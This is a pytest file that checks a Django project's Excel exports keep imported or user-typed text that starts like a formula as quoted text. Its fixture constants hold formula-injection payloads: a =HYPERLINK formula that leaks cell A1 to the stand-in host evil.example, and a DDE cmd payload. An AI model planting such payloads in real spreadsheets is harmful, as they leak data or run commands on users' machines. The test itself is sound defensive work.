"""Every spreadsheet the project writes keeps text that starts like a formula as text.

Each test puts hostile text where a user or an imported file can put it, writes the real
export and reads the cells back with openpyxl: the cell's data type is "s" (a string, not
"f" for a formula), it carries Excel's quote prefix, and its value is the text exactly as
it was typed.
"""

import datetime
import io
from decimal import Decimal

import openpyxl
import pytest

from governance.budget import cost_import
from governance.budget.excel import cost_entries_workbook
from governance.budget.models import CostEntry
from governance.decisions.excel import decision_register_workbook
from governance.decisions.models import Decision
from governance.register.activity_plan import export_activity_plan
from governance.reports import excel as report_excel
from governance.reports import review
from tests.governance.budget.fixtures import build_small_budget
from tests.governance.register.factories import ActivityFactory
from tests.governance.reports.fixtures import build_report

pytestmark = pytest.mark.django_db

# The leak of issue 17: opened in Excel, the cell would send A1 to another host.
HYPERLINK_LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")'
# One for each way a spreadsheet program starts a formula (or DDE): =, +, -, @, tab, CR.
FORMULA_STARTS = [
    HYPERLINK_LEAK,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=2+2",
]


def cells_with(content, texts):
    """{text: cell} for every cell of every sheet whose value is one of `texts`."""
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    found = {}
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in texts:
                    found[cell.value] = cell
    return found


def assert_all_text(content, texts):
    found = cells_with(content, texts)
    assert sorted(found) == sorted(texts), "every hostile text is in the file, unchanged"
    assert {text: cell.data_type for text, cell in found.items()} == dict.fromkeys(texts, "s")
    # openpyxl reads "+1" or "@SUM" as text anyway; Excel runs them unless the cell carries
    # the quote prefix (the ' typed before a text), which it keeps when the cell is edited.
    assert {text: cell.quotePrefix for text, cell in found.items()} == dict.fromkeys(texts, True)


LEDGER_HEADINGS = ["Datum", "Belopp", "Kostnadsslag", "Arbetsområde", "Verifikation", "Text"]


def ledger_xlsx(descriptions):
    """An accounting export as the municipality's system writes it: the texts are text
    cells (a ledger holds what was typed, not formulas), one row a text."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(LEDGER_HEADINGS)
    for number, description in enumerate(descriptions, start=1):
        sheet.append([datetime.datetime(2013, 5, number), 100 * number, "Resor", "A",
                      f"90{number:02}", None])  # fmt: skip
        cell = sheet.cell(row=number + 1, column=6)
        cell.value, cell.data_type = description, "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def ledger_csv(descriptions):
    lines = [";".join(LEDGER_HEADINGS)]
    for number, description in enumerate(descriptions, start=1):
        quoted = '"' + description.replace('"', '""') + '"'
        lines.append(f"2013-05-{number:02};{100 * number};Resor;A;90{number:02};{quoted}")
    return ("\r\n".join(lines) + "\r\n").encode("cp1252")


@pytest.mark.parametrize(("name", "make_file"), [
    ("huvudbok.xlsx", ledger_xlsx), ("huvudbok.csv", ledger_csv)])  # fmt: skip
def test_a_ledger_text_imported_as_a_formula_is_text_in_the_cost_export(name, make_file):
    small = build_small_budget()
    file = io.BytesIO(make_file(FORMULA_STARTS))
    with cost_import.open_sheet(file, name) as sheet:
        mapping = cost_import.guess_mapping(sheet.headers)
    cost_import.import_costs(small.project, file, name, mapping)
    # The import strips the white space around a text: "\t=1+1" comes in as "=1+1".
    imported = sorted(CostEntry.objects.filter(voucher__startswith="90").values_list(
        "description", flat=True))  # fmt: skip
    expected = sorted(text.strip() for text in FORMULA_STARTS)
    assert imported == expected

    content = cost_entries_workbook(CostEntry.objects.filter(project=small.project))

    assert_all_text(content, expected)


def test_an_activity_titled_like_a_formula_is_text_in_the_activity_plan_export():
    small = build_small_budget()
    for number, title in enumerate(FORMULA_STARTS, start=1):
        ActivityFactory(work_area=small.area_a, code=f"A.{number}", title=title,
                        description=f"-{number} deltagare")  # fmt: skip

    content = export_activity_plan(small.project)

    descriptions = [f"-{number} deltagare" for number in range(1, len(FORMULA_STARTS) + 1)]
    assert_all_text(content, FORMULA_STARTS + descriptions)


def test_a_decision_titled_like_a_formula_is_text_in_the_decision_register(make_decision):
    texts = [f"@{number} beslutas" for number in range(len(FORMULA_STARTS))]
    for title, text in zip(FORMULA_STARTS, texts, strict=True):
        make_decision(title, text=text)

    content = decision_register_workbook(Decision.objects.order_by("year", "sequence"))

    texts += FORMULA_STARTS
    assert_all_text(content, texts)


def test_report_text_like_a_formula_is_text_in_the_status_report_workbook(project_leader):
    small = build_small_budget()
    report = build_report(small, summary=HYPERLINK_LEAK, next_steps="-Fler träffar")
    ActivityFactory(work_area=small.area_a, code="A.9", title="@Mässa i Umeå",
                    planned_start=datetime.date(2013, 4, 2),
                    planned_end=datetime.date(2013, 6, 1))  # fmt: skip
    review.submit(report, project_leader)
    report.refresh_from_db()

    content = report_excel.workbook_bytes(report)

    assert_all_text(content, [HYPERLINK_LEAK, "-Fler träffar", "@Mässa i Umeå"])
    # The export's own totals are still formulas: only text from users is kept as text.
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    formulas = [cell for row in workbook["Budget"].iter_rows() for cell in row
                if cell.data_type == "f"]  # fmt: skip
    assert formulas and all(cell.value.startswith("=SUM(") for cell in formulas)


def test_a_money_amount_stays_a_number():
    small = build_small_budget()
    content = cost_entries_workbook(CostEntry.objects.filter(project=small.project))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    amounts = [row[2].value for row in sheet.iter_rows(min_row=2) if row[0].data_type == "d"]
    assert sum(amounts) == pytest.approx(float(Decimal("69000.60")))
